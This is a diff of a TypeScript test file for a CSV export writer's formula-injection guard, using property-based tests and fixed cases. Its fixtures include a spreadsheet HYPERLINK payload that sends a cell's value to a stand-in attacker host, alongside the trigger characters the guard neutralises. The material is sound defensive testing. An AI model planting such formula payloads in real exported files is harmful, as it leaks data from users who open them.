@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import fc from 'fast-check';
-import { csvLine, newDownloadShape, newProgress, passThroughCsv, tablePagesToCsv } from '../../shared/exports/csv-writer.js';
+import { csvLine, guardCell, guardCsvStream, newDownloadShape, newProgress, opensAsFormula, passThroughCsv, tablePagesToCsv } from '../../shared/exports/csv-writer.js';
 import type { ReportTablePage } from '../../shared/kaltura/kaltura-api.js';
 import { parseCsv } from './helpers.js';
 
@@ -51,11 +51,11 @@ describe('CSV writer (RFC 4180)', () => {
     expect(progress.rows).toBe(0);
   });
 
-  it('round-trips any cell text through a standard CSV parser', async () => {
+  it('round-trips any cell text through a standard CSV parser with the formula guard off', async () => {
     await fc.assert(
       fc.asyncProperty(fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 20 }), async (rows) => {
         const progress = newProgress();
-        const out = await collect(tablePagesToCsv(pages(page(1, ['x', 'y'], rows)), progress));
+        const out = await collect(tablePagesToCsv(pages(page(1, ['x', 'y'], rows)), progress, { formulaGuard: false }));
         expect(parseCsv(out.toString('utf8'))).toEqual([['x', 'y'], ...rows]);
       }),
       { numRuns: 200 },
@@ -87,5 +87,133 @@ describe('pass-through of downloaded CSV files', () => {
     expect(shape.bom).toBe(true);
     expect(shape.tableRows).toBe(2);
     expect(shape.lines).toBe(11);
+  });
+});
+
+/** Cells as end users and Kaltura write them: formula triggers, numbers, quotes, separators, non-ASCII. */
+const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
+const cellArb = fc.oneof(
+  fc.string({ unit: 'grapheme' }),
+  fc.tuple(fc.constantFrom(...TRIGGERS), fc.string({ unit: 'grapheme' })).map(([t, rest]) => t + rest),
+  fc.constantFrom('=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(A1:A9)', '-', '+', '=', '-5', '+3', '-1.5e3', '-0.25', '1e6', '-.5', '-5 apples', '\t=1', '"=quoted"', 'a,b', '東京', '🎤'),
+  fc.integer({ min: -1_000_000, max: 1_000_000 }).map(String),
+  fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
+);
+const rowsArb = fc.array(fc.array(cellArb, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 15 });
+const isNumber = (s: string) => /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/.test(s);
+
+/** Splits bytes at random places (multi-byte characters and quote pairs cut too). */
+function chunked(bytes: Buffer, cuts: number[]): Buffer[] {
+  const points = [...new Set(cuts.map((c) => c % (bytes.length + 1)))].sort((a, b) => a - b);
+  const out: Buffer[] = [];
+  let from = 0;
+  for (const p of points) {
+    out.push(bytes.subarray(from, p));
+    from = p;
+  }
+  out.push(bytes.subarray(from));
+  return out;
+}
+
+async function* fromChunks(chunks: Buffer[]): AsyncGenerator<Buffer> {
+  yield* chunks;
+}
+
+describe('formula guard (SPEC §5)', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'],
+    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
+    ['+cmd', "'+cmd"],
+    ['-2+3', "'-2+3"],
+    ['-', "'-"],
+    ['\tindent', "'\tindent"],
+    ['\rreturn', "'\rreturn"],
+    ['-5', '-5'],
+    ['+3', '+3'],
+    ['-1.5e3', '-1.5e3'],
+    ['-.5', '-.5'],
+    ['plain', 'plain'],
+    ['', ''],
+    [' =not a formula (leading space)', ' =not a formula (leading space)'],
+  ])('guards %j as %j', (cell, expected) => {
+    expect(guardCell(cell)).toBe(expected);
+  });
+
+  it('writes a user-typed HYPERLINK entry name as text, and a negative number as a number', async () => {
+    // Prepare
+    const rows = [['1_a', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '-5']];
+    // Act
+    const out = await collect(tablePagesToCsv(pages(page(1, ['object_id', 'entry_name', 'delta'], rows)), newProgress()));
+    // Assess
+    expect(out.toString('utf8')).toBe('object_id,entry_name,delta\r\n1_a,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-5\r\n');
+  });
+
+  it('property: with the guard on, no cell of the file opens as a formula, every cell is the guarded input, and numbers round-trip', async () => {
+    await fc.assert(
+      fc.asyncProperty(rowsArb, async (rows) => {
+        // Act
+        const out = await collect(tablePagesToCsv(pages(page(1, ['a', 'b', 'c'], rows)), newProgress()));
+        // Assess
+        const parsed = parseCsv(out.toString('utf8')).slice(1);
+        expect(parsed).toEqual(rows.map((r) => r.map(guardCell)));
+        for (const cell of parsed.flat()) expect(opensAsFormula(cell)).toBe(false);
+        rows.flat().forEach((cell, i) => {
+          if (isNumber(cell)) expect(parsed.flat()[i]).toBe(cell);
+        });
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  it('property: with the guard off, cells starting with a trigger are written exactly as given', async () => {
+    await fc.assert(
+      fc.asyncProperty(rowsArb, async (rows) => {
+        const out = await collect(tablePagesToCsv(pages(page(1, ['a', 'b', 'c'], rows)), newProgress(), { formulaGuard: false }));
+        expect(parseCsv(out.toString('utf8')).slice(1)).toEqual(rows);
+      }),
+      { numRuns: 100 },
+    );
+  });
+
+  it('property: the streaming guard over a passed-through RFC 4180 file gives the same bytes as guarding while writing, however the bytes are cut', async () => {
+    await fc.assert(
+      fc.asyncProperty(rowsArb, fc.array(fc.nat(), { maxLength: 12 }), async (rows, cuts) => {
+        // Prepare: the file as Kaltura or the Reports Microservice would send it (no guard), cut into chunks.
+        const raw = Buffer.from(rows.map((r) => csvLine(r)).join(''), 'utf8');
+        const expected = rows.map((r) => csvLine(r, true)).join('');
+        // Act
+        const out = await collect(guardCsvStream(fromChunks(chunked(raw, cuts))));
+        // Assess
+        expect(out.toString('utf8')).toBe(expected);
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  it('property: the streaming guard over an unquoted getCsvFromStringParams file guards each cell and keeps numbers', async () => {
+    // Kaltura's string-params files: cells joined by commas, no quoting (commas in values become spaces), LF line ends.
+    const plainCell = cellArb.map((c) => c.replace(/[,\n\r"]/g, ' '));
+    await fc.assert(
+      fc.asyncProperty(fc.array(fc.array(plainCell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 15 }), fc.array(fc.nat(), { maxLength: 8 }), async (rows, cuts) => {
+        const raw = Buffer.from(rows.map((r) => r.join(',') + '\n').join(''), 'utf8');
+        const out = await collect(guardCsvStream(fromChunks(chunked(raw, cuts))));
+        expect(out.toString('utf8')).toBe(rows.map((r) => r.map(guardCell).join(',') + '\n').join(''));
+      }),
+      { numRuns: 200 },
+    );
+  });
+
+  it('guards a long +/- cell without holding the rest of the file', async () => {
+    // Prepare: a cell that starts like a number and runs on for 100 KB, in 1 KB pieces.
+    const cell = '-' + '1'.repeat(100_000) + 'x';
+    const raw = Buffer.from(`a,${cell}\nb,-7\n`);
+    const pieces: Buffer[] = [];
+    for (let i = 0; i < raw.length; i += 1024) pieces.push(raw.subarray(i, i + 1024));
+    // Act
+    const parts: Buffer[] = [];
+    for await (const p of guardCsvStream(fromChunks(pieces))) parts.push(p);
+    // Assess: decided after a few dozen characters, so output keeps flowing chunk by chunk.
+    expect(Buffer.concat(parts).toString()).toBe(`a,'${cell}\nb,-7\n`);
+    expect(parts.length).toBeGreaterThan(50);
   });
 });
